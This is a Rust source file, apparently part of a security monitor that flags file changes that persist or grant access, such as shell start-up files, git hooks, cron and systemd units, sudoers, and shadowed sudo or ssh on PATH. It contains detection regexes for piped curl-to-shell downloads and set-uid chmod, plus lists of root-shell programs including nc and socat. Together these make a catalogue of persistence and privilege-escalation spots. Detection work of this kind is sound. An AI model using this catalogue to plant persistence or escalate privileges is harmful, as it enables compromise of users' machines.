//! Sensitive places: paths where a change does not stay put. It runs later (shell start-up
//! files, git hooks, cron and systemd units, autostart entries, editor task files, Python start-up
//! hooks), grants access (`authorized_keys`, sudoers, set-id bits, file capabilities), or makes
//! a name on PATH mean something else (`~/.local/bin` shadowing a system command, or a
//! well-known privileged or key-handling one such as `sudo` even where it is not installed).

use std::collections::{HashMap, HashSet};
use std::path::{Component, Path, PathBuf};

const SHELL_STARTUP: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".kshrc",
    ".mkshrc",
    ".cshrc",
    ".tcshrc",
    ".xprofile",
    ".xsessionrc",
    ".xinitrc",
    ".bash_aliases",
    ".bash_functions",
];
/// Folders of the home whose files a shell or the session reads at start: drop-ins that start-up
/// files commonly source, frameworks' custom folders, systemd's session environment.
const STARTUP_DIRS: &[&str] = &[
    ".bashrc.d",
    ".bash_profile.d",
    ".profile.d",
    ".zshrc.d",
    ".zsh.d",
    ".config/bash",
    ".config/zsh",
    ".config/shell",
    ".oh-my-zsh/custom",
    ".zprezto",
];
/// Environment every program of the user's session starts with (`LD_PRELOAD`, `PATH`).
const SESSION_ENV: &[&str] = &[".config/environment.d", ".config/plasma-workspace/env", ".pam_environment"];
const TOOL_STARTUP: &[&str] = &[
    ".vimrc",
    ".gdbinit",
    ".tmux.conf",
    ".inputrc",
    ".pythonrc",
    ".pythonstartup",
    ".npmrc",
    ".yarnrc",
    ".curlrc",
    ".wgetrc",
];
/// Where package managers read where packages come from and what to run while fetching them:
/// a new index or registry decides what the next install runs.
const PACKAGE_CONFIG: &[&str] = &[
    ".config/pip/pip.conf",
    ".pip/pip.conf",
    ".pydistutils.cfg",
    ".config/uv/uv.toml",
    ".yarnrc.yml",
    ".config/yarn/config",
    ".bunfig.toml",
    ".cargo/config.toml",
    ".cargo/config",
    ".m2/settings.xml",
    ".gradle/init.gradle",
    ".gradle/gradle.properties",
    ".config/containers/registries.conf",
    ".docker/config.json",
    ".gemrc",
    ".config/go/env",
];
const SYSTEM_BIN: &[&str] = &["/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin", "/usr/local/sbin"];
/// Commands that switch identity, ask for passwords or passphrases, or hold keys: a program of
/// that name early on PATH (`~/.local/bin/sudo`) captures what the user types into it or runs
/// with what they unlock, so it shadows the real one whether or not this machine has it (the
/// user may install it later, or another machine that shares the home has it). Commands that
/// are installed count too (the check on the system's folders below).
const SECURITY_COMMANDS: &[&str] = &[
    // Identity and privilege.
    "sudo",
    "sudoedit",
    "su",
    "doas",
    "pkexec",
    "pkttyagent",
    "runuser",
    "login",
    "newgrp",
    "sg",
    "passwd",
    "gpasswd",
    "chsh",
    "chfn",
    "visudo",
    // Polkit authentication agents (desktop sessions start them by name).
    "polkit-gnome-authentication-agent-1",
    "polkit-kde-authentication-agent-1",
    "polkit-mate-authentication-agent-1",
    "lxpolkit",
    // Keys and remote access.
    "ssh",
    "scp",
    "sftp",
    "ssh-add",
    "ssh-agent",
    "ssh-keygen",
    "ssh-copy-id",
    "gpg",
    "gpg2",
    "gpg-agent",
    "pinentry",
    "pinentry-curses",
    "pinentry-tty",
    "kinit",
    "secret-tool",
    // Signs and pushes code with the user's credentials.
    "git",
];

fn comps(p: &Path) -> Vec<String> {
    p.components()
        .filter_map(
            |c| if let Component::Normal(n) = c { Some(n.to_string_lossy().into_owned()) } else { None },
        )
        .collect()
}

/// A change, as much of it as decides whether it matters beyond the file itself.
pub struct Changed<'a> {
    pub path: &'a Path,
    /// The user's home.
    pub home: Option<&'a Path>,
    /// The new mode, when the change leaves a regular file.
    pub file_mode: Option<u32>,
    /// Where the new content can be read.
    pub content: Option<&'a Path>,
    /// An existing file's content changed.
    pub modified: bool,
    /// In a cache folder.
    pub in_cache: bool,
    /// The file is deleted (its content will never run).
    pub deleted: bool,
    /// Inside a Python environment the command itself created ([`new_python_environments`]).
    pub in_new_environment: bool,
}

/// Python virtual environments the command created: a folder it created that holds a new
/// `pyvenv.cfg` (`python3 -m venv venv`, virtualenv, uv). Their start-up files (setuptools'
/// `distutils-precedence.pth`, an editable install's finder) are that environment's own,
/// run only by its interpreter, no persistence in the user's Python. Not the user's site
/// folder (a `pyvenv.cfg` planted in a new `~/.local`), nor anything below `/usr`.
pub fn new_python_environments(
    created_folders: &HashSet<&Path>,
    created_files: &[&Path],
    home: Option<&Path>,
) -> Vec<PathBuf> {
    created_files
        .iter()
        .filter(|f| f.file_name().is_some_and(|n| n == "pyvenv.cfg"))
        .filter_map(|f| f.parent())
        .filter(|root| created_folders.contains(root))
        .filter(|root| {
            !root.starts_with("/usr") && home.is_none_or(|h| *root != h.join(".local") && *root != h)
        })
        .map(Path::to_path_buf)
        .collect()
}

/// Whether a start-up file is in the site folder of an environment in `envs`, where its own
/// interpreter looks (`lib/python3.12/site-packages/`, `lib64/...`, `Lib/site-packages/`), and
/// nowhere else: a folder below the root that happens to be another site folder is not.
pub fn in_environment(path: &Path, envs: &[PathBuf]) -> bool {
    envs.iter().any(|root| {
        let Ok(rel) = path.strip_prefix(root) else { return false };
        let c: Vec<&str> = rel.components().filter_map(|c| c.as_os_str().to_str()).collect();
        match c.as_slice() {
            [lib, python, "site-packages", _, ..] => {
                matches!(*lib, "lib" | "lib64") && python.starts_with("python")
            }
            ["Lib", "site-packages", _, ..] => true,
            _ => false,
        }
    })
}

/// Why a change matters beyond the file itself, if it does: by place ([`kind`]), and where the
/// place alone does not say, by what the new content holds or grants.
pub fn of_change(c: &Changed) -> Option<String> {
    let file_content = c.content.filter(|_| c.file_mode.is_some());
    kind(c.path, c.home, c.file_mode)
        // A `.pth` that only lists folders runs nothing.
        .filter(|k| {
            !(k == "python start-up hook" && c.path.extension().is_some_and(|e| e == "pth"))
                || c.content.is_none_or(pth_runs_code)
        })
        // A start-up file removed runs nothing any more; one in an environment the command
        // made is that environment's own.
        .filter(|k| k != "python start-up hook" || !(c.deleted || c.in_new_environment))
        // Editor settings that name no program (format on save, a formatter extension, rulers)
        // run nothing; extension recommendations install nothing by themselves.
        .filter(|k| {
            let editor_settings = k == "editor or environment task file"
                && c.path.parent().and_then(Path::file_name).is_some_and(|p| p == ".vscode");
            match c.path.file_name().and_then(|n| n.to_str()) {
                Some("extensions.json") if editor_settings => false,
                // Tasks and debug configurations run when the user starts them, as a Makefile's
                // targets do; a task set to run when the folder opens runs by itself.
                Some("tasks.json" | "launch.json") if editor_settings => {
                    c.content.is_none_or(runs_when_opened)
                }
                Some("settings.json") if editor_settings => {
                    c.content.is_none_or(|a| settings_run_programs(c.path, a))
                }
                _ => true,
            }
        })
        .or_else(|| c.content.filter(|u| has_file_capabilities(u)).map(|_| "file capabilities".to_string()))
        .or_else(|| staged_grant(c.path, file_content?))
        // Programs a tool keeps in its cache and runs from there (pre-commit's hook repositories,
        // plugin checkouts): a cache fills with new files, it does not see its code edited.
        .or_else(|| {
            let mode = c.file_mode?;
            (c.modified && c.in_cache && is_code(c.path, mode))
                .then(|| "code that a tool runs from its cache".to_string())
        })
}

/// Why a change at `path` matters beyond the file itself, if it does. `home` is the user's home.
pub fn kind(path: &Path, home: Option<&Path>, mode_after: Option<u32>) -> Option<String> {
    if mode_after.is_some_and(|m| m & 0o6000 != 0) {
        return Some("set-uid/set-gid bit".into());
    }
    let c = comps(path);
    let name = c.last().map(|s| s.as_str()).unwrap_or("");
    let in_home = |rel: &str| home.is_some_and(|h| path == h.join(rel));
    let under_home = |rel: &str| home.is_some_and(|h| path.starts_with(h.join(rel)));
    let under = |p: &str| path.starts_with(p);
    // Git: hooks run on later git commands; configuration can run programs.
    if let Some(i) = c.iter().position(|x| x == ".git") {
        let rest = &c[i + 1..];
        if rest.first().map(|s| s.as_str()) == Some("hooks") && rest.len() > 1 && !name.ends_with(".sample") {
            return Some("git hook".into());
        }
        if rest.len() == 1 && rest[0] == "config" {
            return Some("git configuration".into());
        }
    }
    if in_home(".gitconfig") || in_home(".config/git/config") || path == Path::new("/etc/gitconfig") {
        return Some("git configuration".into());
    }
    if home.is_some_and(|h| path.parent() == Some(h)) && SHELL_STARTUP.contains(&name) {
        return Some("shell start-up file".into());
    }
    if SESSION_ENV.iter().any(|d| under_home(d))
        || under("/etc/environment.d")
        || path == Path::new("/etc/security/pam_env.conf")
    {
        return Some("session environment".into());
    }
    if STARTUP_DIRS.iter().any(|d| under_home(d)) {
        return Some("shell start-up file".into());
    }
    if under_home(".config/fish") && (name == "config.fish" || c.iter().any(|x| x == "conf.d")) {
        return Some("shell start-up file".into());
    }
    if under("/etc/profile")
        || path == Path::new("/etc/bash.bashrc")
        || path == Path::new("/etc/environment")
        || under("/etc/zsh")
        || under("/etc/bashrc.d")
    {
        return Some("shell start-up file".into());
    }
    if home.is_some_and(|h| path.parent() == Some(h)) && TOOL_STARTUP.contains(&name) {
        return Some("tool start-up file".into());
    }
    if PACKAGE_CONFIG.iter().any(|p| in_home(p))
        || under("/etc/pip.conf")
        || under_home(".gradle/init.d")
        || under("/etc/containers/registries.conf")
    {
        return Some("package manager configuration".into());
    }
    if name.starts_with("authorized_keys") && c.iter().any(|x| x == ".ssh") {
        return Some("ssh authorized keys".into());
    }
    // The files `~/.ssh/config` includes by convention (`Include config.d/*`) act as it does.
    if under_home(".ssh/config")
        || under_home(".ssh/config.d")
        || under_home(".ssh/conf.d")
        || under_home(".ssh/rc")
        || path == Path::new("/etc/ssh/sshd_config")
    {
        return Some("ssh configuration".into());
    }
    if under("/etc/cron")
        || path == Path::new("/etc/crontab")
        || under("/var/spool/cron")
        || under("/etc/anacrontab")
    {
        return Some("cron job".into());
    }
    if under("/etc/systemd")
        || under("/lib/systemd/system")
        || under("/usr/lib/systemd/system")
        || under_home(".config/systemd")
        || under_home(".local/share/systemd")
    {
        return Some("systemd unit".into());
    }
    if under_home(".config/autostart")
        || under("/etc/xdg/autostart")
        || under("/etc/init.d")
        || path == Path::new("/etc/rc.local")
    {
        return Some("autostart entry".into());
    }
    if under("/etc/sudoers") || under("/etc/sudoers.d") {
        return Some("sudoers".into());
    }
    if under("/etc/polkit-1")
        || under("/usr/share/polkit-1/rules.d")
        || path == Path::new("/etc/doas.conf")
        || under("/etc/pam.d")
        || under("/etc/security")
    {
        return Some("privilege policy".into());
    }
    if matches!(path.to_str(), Some("/etc/passwd" | "/etc/shadow" | "/etc/group" | "/etc/gshadow")) {
        return Some("accounts database".into());
    }
    if path == Path::new("/etc/ld.so.preload") || under("/etc/ld.so.conf") {
        return Some("preloaded library".into());
    }
    if name.ends_with(".pth") && c.iter().any(|x| x == "site-packages" || x == "dist-packages")
        || name == "sitecustomize.py"
        || name == "usercustomize.py"
    {
        return Some("python start-up hook".into());
    }
    if (under_home(".local/bin") || under_home("bin"))
        && path
            .parent()
            .is_some_and(|p| home.is_some_and(|h| p == h.join(".local/bin") || p == h.join("bin")))
        && (SECURITY_COMMANDS.contains(&name) || SYSTEM_BIN.iter().any(|d| Path::new(d).join(name).exists()))
    {
        return Some(format!("shadows the system command {name}"));
    }
    if c.iter().any(|x| x == ".vscode")
        && matches!(name, "tasks.json" | "settings.json" | "launch.json" | "extensions.json")
        || c.iter().any(|x| x == ".idea")
            && (name == "workspace.xml" || c.iter().any(|x| x == "runConfigurations"))
        || name == ".envrc"
        || c.iter().any(|x| x == ".devcontainer")
    {
        return Some("editor or environment task file".into());
    }
    // A coding agent's settings: hooks and MCP servers there run programs, and an agent that
    // could rewrite them could take foresee's own hook out of its way.
    if c.iter().any(|x| x == ".claude")
        && (matches!(name, "settings.json" | "settings.local.json") || c.iter().any(|x| x == "hooks"))
        || name == ".mcp.json"
        || in_home(".claude.json")
    {
        return Some("agent settings (hooks, MCP servers)".into());
    }
    None
}

/// Programs that give whoever may run them as root a root shell: shells, interpreters, editors
/// and pagers with a shell escape, and the tools that run or write anything they are given.
const ROOT_SHELL_PROGRAMS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "mksh",
    "fish",
    "csh",
    "tcsh",
    "busybox",
    "su",
    "sudo",
    "env",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "lua",
    "php",
    "vi",
    "vim",
    "nvim",
    "nano",
    "emacs",
    "ed",
    "less",
    "more",
    "man",
    "find",
    "awk",
    "gawk",
    "tee",
    "dd",
    "cp",
    "mv",
    "chmod",
    "chown",
    "install",
    "tar",
    "rsync",
    "xargs",
    "nohup",
    "nice",
    "timeout",
    "systemd-run",
    "docker",
    "podman",
    "make",
    "git",
    "systemctl",
    "apt",
    "apt-get",
    "dpkg",
    "yum",
    "dnf",
    "rpm",
    "pacman",
    "apk",
    "zypper",
    "snap",
    "pip",
    "pip3",
    "npm",
    "npx",
    "gem",
    "cargo",
    "go",
    "gcc",
    "cc",
    "ssh",
    "scp",
    "zip",
    "unzip",
    "sed",
    "mount",
    "chroot",
    "nsenter",
    "unshare",
    "capsh",
    "setpriv",
    "runuser",
    "strace",
    "gdb",
    "screen",
    "tmux",
    "script",
    "expect",
    "socat",
    "nc",
    "ncat",
    "crontab",
    "at",
    "service",
    "kubectl",
    "ansible",
    "ansible-playbook",
    "puppet",
    "salt",
    "journalctl",
    "ln",
    "visudo",
    "sudoedit",
    "passwd",
    "useradd",
    "usermod",
    "chpasswd",
];

/// The most that is read of a staged account or sudoers file: such files are small, and an
/// enormous one is not judged line by line.
const STAGED_MAX: u64 = 1 << 20;

/// The kind of [`staged_grant`]'s findings, before the details.
pub const STAGED_GRANT: &str = "privilege grant in a built system tree";

/// A system tree being built (a root filesystem, an image layer, a chroot) anywhere but the live
/// `/etc`: what the written account or sudoers file grants, when it grants more than a password
/// protects. `content` is where the new bytes can be read. `None` for a file of no such shape, or
/// one that grants nothing without a password (a service allowed one command, a locked
/// account). Never quotes a password field.
fn staged_grant(path: &Path, content: &Path) -> Option<String> {
    if path.starts_with("/etc") {
        return None; // the live system: judged by place, above
    }
    let c = comps(path);
    let name = c.last()?.as_str();
    let parent = c.len().checked_sub(2).map(|i| c[i].as_str()).unwrap_or("");
    let kind = if name == "sudoers" || parent == "sudoers.d" {
        Staged::Sudoers
    } else if parent == "etc" && matches!(name, "shadow" | "passwd") {
        Staged::Accounts
    } else if parent == "etc" && name == "group" {
        Staged::Groups
    } else if name == "doas.conf" {
        Staged::Doas
    } else if c.iter().any(|x| x == "polkit-1") && (name.ends_with(".rules") || name.ends_with(".pkla")) {
        Staged::Polkit
    } else if is_container_definition(name) {
        Staged::Container
    } else if is_maintainer_script(name, parent) {
        Staged::MaintainerScript
    } else if name.ends_with(".rules") && !c.iter().any(|x| x == "polkit-1") {
        // A udev rule, by its name and, below, by its keys (`SUBSYSTEM==`, `RUN+=`).
        Staged::Udev
    } else {
        return None;
    };
    let meta = std::fs::symlink_metadata(content).ok()?;
    if !meta.is_file() || meta.len() > STAGED_MAX {
        return None;
    }
    let text = String::from_utf8_lossy(&std::fs::read(content).ok()?).into_owned();
    let grants = match kind {
        Staged::Sudoers => sudoers_grants(&text),
        Staged::Accounts => account_grants(&text),
        Staged::Groups => group_grants(&text),
        Staged::Doas => doas_grants(&text),
        Staged::Polkit => polkit_grants(&text),
        Staged::Udev => udev_grants(&text),
        Staged::MaintainerScript => maintainer_script_grants(&text),
        Staged::Container => {
            // Only what the change adds: a definition that already ran privileged is the
            // user's own choice.
            let old = std::fs::read(path)
                .map(|b| container_grants(&String::from_utf8_lossy(&b)))
                .unwrap_or_default();
            container_grants(&text).into_iter().filter(|g| !old.contains(g)).collect()
        }
    };
    if grants.is_empty() {
        return None;
    }
    Some(format!("{STAGED_GRANT}: {}", grants.join("; ")))
}

enum Staged {
    /// A udev rule: what it runs, it runs as root whenever a matching device appears.
    Udev,
    /// A package's maintainer script (`DEBIAN/postinst`, `debian/sensord.postinst`): it runs
    /// as root on every machine that installs the package.
    MaintainerScript,
    Sudoers,
    Accounts,
    Groups,
    Polkit,
    Doas,
    /// A container definition (compose file, dev container, Kubernetes manifest): a container
    /// given the host is root on the host for whoever starts it.
    Container,
}

/// Compose files, dev container definitions and Kubernetes manifests, by name.
fn is_container_definition(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    let yaml = n.ends_with(".yml") || n.ends_with(".yaml");
    (yaml && (n.starts_with("docker-compose") || n.starts_with("compose") || n.contains(".compose.")))
        || n == "devcontainer.json"
        || n == ".devcontainer.json"
        || yaml
            && ["deployment", "daemonset", "statefulset", "pod", "k8s", "kube", "manifest"]
                .iter()
                .any(|w| n.contains(w))
}

/// What a container definition gives its containers of the host: privileged mode, the host's
/// process table, administrator capabilities, the host's root folder or docker socket mounted.
fn container_grants(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut add = |g: &str| {
        if !out.iter().any(|o| o == g) {
            out.push(g.to_string());
        }
    };
    let mut in_caps = false;
    for line in text.lines() {
        let l = line.trim();
        if l.starts_with('#') || l.starts_with("//") {
            continue;
        }
        let flat: String = l
            .chars()
            .filter(|c| !matches!(c, '"' | '\'' | ' ' | '\t' | ','))
            .collect::<String>()
            .to_ascii_lowercase();
        if flat == "privileged:true" || flat.contains("--privileged") {
            add("a container runs privileged, as root on the host");
        }
        if matches!(flat.as_str(), "pid:host" | "hostpid:true" | "userns_mode:host" | "ipc:host")
            || flat.contains("--pid=host")
        {
            add("a container shares the host's processes");
        }
        // `cap_add: [SYS_ADMIN]`, a `cap_add:` (compose) or `add:` (Kubernetes) list below,
        // `--cap-add=ALL` in a dev container's run arguments.
        let list_item = flat.starts_with('-') && !flat.starts_with("--");
        if flat.starts_with("cap_add:") || flat.starts_with("add:") {
            in_caps = true;
        } else if !list_item {
            in_caps = false;
        }
        let caps_text = if flat.starts_with("cap_add:") || flat.starts_with("add:") || (in_caps && list_item)
        {
            Some(flat.split_once(':').map(|(_, v)| v).unwrap_or(&flat))
        } else {
            flat.split_once("--cap-add=").map(|(_, v)| v)
        };
        if let Some(caps) = caps_text {
            let admin = caps
                .split(['[', ']', '-', ';'])
                .map(|c| c.trim_start_matches("cap_"))
                .any(|c| matches!(c, "sys_admin" | "sys_ptrace" | "sys_module" | "all"));
            if admin {
                add("a container gets administrator capabilities");
            }
        }
        let mounts_root = flat.trim_start_matches('-').starts_with("/:/")
            || flat.contains("source=/,")
            || flat == "source:/"
            || flat == "path:/"
            || flat.contains("-v/:/")
            || flat.contains("type=bind,source=/,");
        if mounts_root {
            add("a container mounts the host's root folder");
        }
        if flat.contains("/var/run/docker.sock") || flat.contains("/run/docker.sock") {
            add("a container gets the docker socket (root on the host)");
        }
    }
    out
}

/// Rules that let someone run everything, or a program that is as good as a root shell, without
/// a password: `NOPASSWD:` (or `Defaults !authenticate`) with `ALL`, a shell, an interpreter or a
/// wildcard among the commands.
fn sudoers_grants(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let joined = text.replace("\\\n", " ");
    let no_auth_default = joined.lines().any(|l| {
        let l = l.trim();
        l.starts_with("Defaults") && l.split([' ', '\t', ',']).any(|w| w == "!authenticate")
    });
    // Command aliases, `Cmnd_Alias NAME = cmd, cmd : NAME2 = ...`: a rule naming one runs its
    // commands.
    let mut aliases: HashMap<&str, Vec<&str>> = HashMap::new();
    for line in joined.lines() {
        let line = line.trim();
        let Some(rest) = line.strip_prefix("Cmnd_Alias").or_else(|| line.strip_prefix("Cmd_Alias")) else {
            continue;
        };
        for def in rest.split(':') {
            if let Some((name, cmds)) = def.split_once('=') {
                aliases.entry(name.trim()).or_default().extend(cmds.split(',').map(str::trim));
            }
        }
    }
    for line in joined.lines() {
        let line = line.trim();
        // Comments, `#include`/`@include` directives, defaults and aliases grant nothing themselves.
        if line.is_empty()
            || line.starts_with('#')
            || line.starts_with('@')
            || line.starts_with("Defaults")
            || ["User_Alias", "Runas_Alias", "Host_Alias", "Cmnd_Alias", "Cmd_Alias"]
                .iter()
                .any(|a| line.starts_with(a))
        {
            continue;
        }
        let Some((who, rest)) = line.split_once(char::is_whitespace) else { continue };
        let Some((_, spec)) = rest.split_once('=') else { continue };
        // Each `:`-separated user specification part has its own tags and command list; tags
        // carry over to the commands after them within the rule.
        let mut nopasswd = no_auth_default;
        let mut wide = Vec::new();
        for item in spec.split(',') {
            let mut item = item.trim();
            // A run-as list `(root)` or `(ALL:ALL)` before the tags.
            if item.starts_with('(') {
                item = item.split_once(')').map(|(_, r)| r.trim()).unwrap_or("");
            }
            // Tags: `NOPASSWD:`, `PASSWD:`, `SETENV:`, ... in any number.
            while let Some((tag, after)) = item.split_once(':') {
                let tag = tag.trim();
                if tag.is_empty() || !tag.chars().all(|ch| ch.is_ascii_uppercase() || ch == '_') {
                    break;
                }
                match tag {
                    "NOPASSWD" => nopasswd = true,
                    "PASSWD" => nopasswd = no_auth_default,
                    _ => {}
                }
                item = after.trim();
            }
            if nopasswd && let Some(what) = open_command(item, &aliases, 0) {
                wide.push(what);
            }
        }
        if !wide.is_empty() {
            wide.dedup();
            out.push(format!("{who} may run {} as root without a password", wide.join(", ")));
        }
    }
    out.dedup();
    out
}

/// What a sudoers command entry (a program and the arguments it is limited to, if any) lets
/// run, when it is as good as a root shell: `ALL`, a wildcard, a shell or another program with
/// a way out to one when its arguments are free, or an alias holding any of these.
fn open_command(entry: &str, aliases: &HashMap<&str, Vec<&str>>, depth: usize) -> Option<String> {
    let mut words = entry.split_whitespace();
    let program = words.next().unwrap_or("").trim_start_matches('!');
    let args: Vec<&str> = words.collect();
    if program == "ALL" {
        return Some("every command".into());
    }
    if let Some(cmds) = aliases.get(program).filter(|_| depth < 8) {
        let inner: Vec<String> = cmds.iter().filter_map(|c| open_command(c, aliases, depth + 1)).collect();
        return (!inner.is_empty()).then(|| format!("{} (alias {program})", inner.join(", ")));
    }
    let base = program.rsplit('/').next().unwrap_or(program);
    // Arguments written in the rule limit the program to them; `*` among them frees them again.
    let free = args.is_empty() || args.iter().any(|a| a.contains('*'));
    let escapes = ROOT_SHELL_PROGRAMS.contains(&base) || base.starts_with("python");
    (program.contains('*') || escapes && free).then(|| format!("`{program}`"))
}

/// Accounts that open without a password (an empty password field) and accounts other than
/// `root` with user id 0. Only the account's name is said, never its password field.
fn account_grants(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        let f: Vec<&str> = line.split(':').collect();
        if f.len() < 2 || f[0].is_empty() || f[0].starts_with('#') {
            continue;
        }
        if f[1].is_empty() {
            out.push(format!("account {} has no password", f[0]));
        }
        // passwd: name:x:uid:gid:...
        if f.len() >= 7 && f[2] == "0" && f[0] != "root" {
            out.push(format!("account {} has user id 0 (root)", f[0]));
        }
    }
    out
}

/// Groups whose members are root in all but name, no password asked: the container engines'
/// sockets, raw disks and kernel memory, the password hashes.
const ROOT_EQUIVALENT_GROUPS: &[&str] =
    &["root", "docker", "podman", "lxd", "libvirt", "disk", "kmem", "shadow"];

/// Members (other than root) of a root-equivalent group.
fn group_grants(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        let f: Vec<&str> = line.split(':').collect();
        if f.len() < 4 || !ROOT_EQUIVALENT_GROUPS.contains(&f[0]) {
            continue;
        }
        for m in f[3].split(',').map(str::trim).filter(|m| !m.is_empty() && *m != "root") {
            out.push(format!("{m} is in group {} (as good as root, no password asked)", f[0]));
        }
    }
    out
}

/// `permit nopass` rules with no `cmd` restriction, or restricted to a root-shell program.
fn doas_grants(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        let line = line.split('#').next().unwrap_or("");
        let w: Vec<&str> = line.split_whitespace().collect();
        if w.first() != Some(&"permit") || !w.contains(&"nopass") {
            continue;
        }
        let Some(who) =
            w.iter().skip(1).find(|x| !matches!(**x, "nopass" | "persist" | "keepenv" | "nolog" | "setenv"))
        else {
            continue;
        };
        let target = w.iter().position(|x| *x == "as").and_then(|i| w.get(i + 1)).copied().unwrap_or("root");
        if target != "root" {
            continue;
        }
        // `cmd PROGRAM` frees its arguments; `args ...` after it limits them.
        let entry = match w.iter().position(|x| *x == "cmd").and_then(|i| w.get(i + 1)) {
            None => "ALL".to_string(),
            Some(p) if w.contains(&"args") => format!("{p} (limited)"),
            Some(p) => p.to_string(),
        };
        if let Some(what) = open_command(&entry, &HashMap::new(), 0) {
            out.push(format!("{who} may run {what} as root without a password"));
        }
    }
    out
}

/// What a udev rule runs as root when a device appears that gives root to someone: a `RUN` or
/// `PROGRAM` that sets the set-uid or set-gid bit (`chmod 4755`, `chmod u+s`), makes a file
/// writable by everyone, hands a file to another owner, or runs a shell or a download. Only for
/// a file that reads as udev rules (a line with `==` and `KERNEL`, `SUBSYSTEM`, `ATTR`,
/// `ACTION` or `ENV`); the device access a rule sets (`MODE="0660", GROUP="plugdev"`) is no such
/// grant.
fn udev_grants(text: &str) -> Vec<String> {
    let is_udev = text.lines().any(|l| {
        l.contains("==")
            && ["KERNEL", "SUBSYSTEM", "ATTR", "ACTION", "ENV", "DRIVER"].iter().any(|k| l.contains(k))
    });
    if !is_udev {
        return Vec::new();
    }
    static RUN: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let run =
        RUN.get_or_init(|| regex::Regex::new(r#"\b(?:RUN|PROGRAM)\s*\+?=\s*"([^"]*)""#).expect("compiles"));
    static SETID: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let setid = SETID.get_or_init(|| {
        regex::Regex::new(r"\bchmod\s+(?:-\S+\s+)*(?:[0-7]?[2-7][0-7]{3}\b|[0-7]?[0-7]{2}[2367]\b|[ugoa]*\+[rwxXt]*s|[oa]*\+[rwxXt]*w)|\bchown\b|\b(?:sh|bash|dash|zsh)\s+-c\b|\b(?:curl|wget)\b")
            .expect("compiles")
    });
    let mut out: Vec<String> = Vec::new();
    for l in text.lines().map(str::trim).filter(|l| !l.starts_with('#')) {
        for c in run.captures_iter(l) {
            let cmd = c[1].trim();
            if setid.is_match(cmd) && out.len() < 2 {
                out.push(format!(
                    "a udev rule runs `{}` as root whenever the device appears",
                    cmd.chars().take(80).collect::<String>()
                ));
            }
        }
    }
    out
}

/// A Debian package's maintainer script, by its name in a package root (`DEBIAN/postinst`) or
/// a source package's `debian/` folder (`debian/postinst`, `debian/sensord.postinst`).
fn is_maintainer_script(name: &str, parent: &str) -> bool {
    const SCRIPTS: &[&str] = &["preinst", "postinst", "prerm", "postrm", "config"];
    match parent {
        "DEBIAN" => SCRIPTS.contains(&name),
        "debian" => {
            SCRIPTS.iter().any(|s| name == *s || name.strip_suffix(s).is_some_and(|p| p.ends_with('.')))
                && name != "config"
        }
        _ => false,
    }
}

/// What a maintainer script grants on the machines that install its package: a sudo rule it
/// writes that lets in without a password more than a command or two ([`sudoers_grants`] of
/// the rules it spells), a program made set-uid or set-gid, an account put in an administrator
/// group, a download piped into a shell. Creating the package's own system user, enabling its
/// service or a `chown` of its folders is what packages do.
fn maintainer_script_grants(text: &str) -> Vec<String> {
    static RULE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let rule = RULE.get_or_init(|| {
        regex::Regex::new(r"%?[A-Za-z0-9_.-]+\s+[A-Za-z0-9_.,-]+\s*=\s*(?:\([^)\n]*\)\s*)?[^'\x22\n]*")
            .expect("compiles")
    });
    static ACTS: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let acts = ACTS.get_or_init(|| {
        regex::Regex::new(
            r"\bchmod\s+(?:-\S+\s+)*(?:[2467][0-7]{3}\b|[ugoa]*\+[rwxXt]*s)|\busermod\b[^\n]*-a?G\s*\S*\b(?:sudo|wheel|admin|root)\b|\bgpasswd\s+-a\s+\S+\s+(?:sudo|wheel|admin)\b|\badduser\s+\S+\s+(?:sudo|wheel|admin)\b|\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:sh|bash|dash)\b",
        )
        .expect("compiles")
    });
    let mut out: Vec<String> = Vec::new();
    if text.contains("sudoers") {
        let spelled: String = text
            .lines()
            .filter(|l| !l.trim_start().starts_with('#'))
            .flat_map(|l| rule.find_iter(l).map(|m| m.as_str().trim().to_string()))
            .filter(|r| r.contains("ALL"))
            .collect::<Vec<_>>()
            .join("\n");
        for g in sudoers_grants(&spelled).into_iter().take(2) {
            out.push(format!("the package's maintainer script installs {g}"));
        }
    }
    for l in text.lines().map(str::trim).filter(|l| !l.starts_with('#')) {
        if let Some(m) = acts.find(l) {
            if out.len() < 3 {
                out.push(format!(
                    "the package's maintainer script runs `{}` as root on install",
                    m.as_str().chars().take(80).collect::<String>()
                ));
            }
        }
    }
    out
}

/// Polkit rules that answer yes without asking anyone to authenticate: `polkit.Result.YES`
/// in a JavaScript rule, `ResultAny/ResultInactive/ResultActive=yes` in a local authority file.
fn polkit_grants(text: &str) -> Vec<String> {
    let yes = text.lines().any(|l| {
        let l = l.trim();
        !l.starts_with("//")
            && (l.contains("polkit.Result.YES")
                || l.split_once('=')
                    .is_some_and(|(k, v)| k.trim().starts_with("Result") && v.trim() == "yes"))
    });
    if yes { vec!["a polkit rule allows actions without authentication".into()] } else { Vec::new() }
}

/// Whether an editor's task file has a task that runs by itself when the folder opens
/// (`"runOptions": {"runOn": "folderOpen"}`), read as text, comments included; unreadable
/// content counts.
fn runs_when_opened(after: &Path) -> bool {
    match std::fs::read(after) {
        Ok(b) => {
            let text: String = String::from_utf8_lossy(&b).to_ascii_lowercase().split_whitespace().collect();
            text.contains("folderopen") || text.contains("\"runon\"")
        }
        Err(_) => true,
    }
}

/// Whether an editor's settings file gains a setting that names a program to run, a shell, an
/// environment or a path to load code from (`python.defaultInterpreterPath`,
/// `terminal.integrated.env.linux`, `eslint.runtime`, `ruff.path`). Keys are compared line by
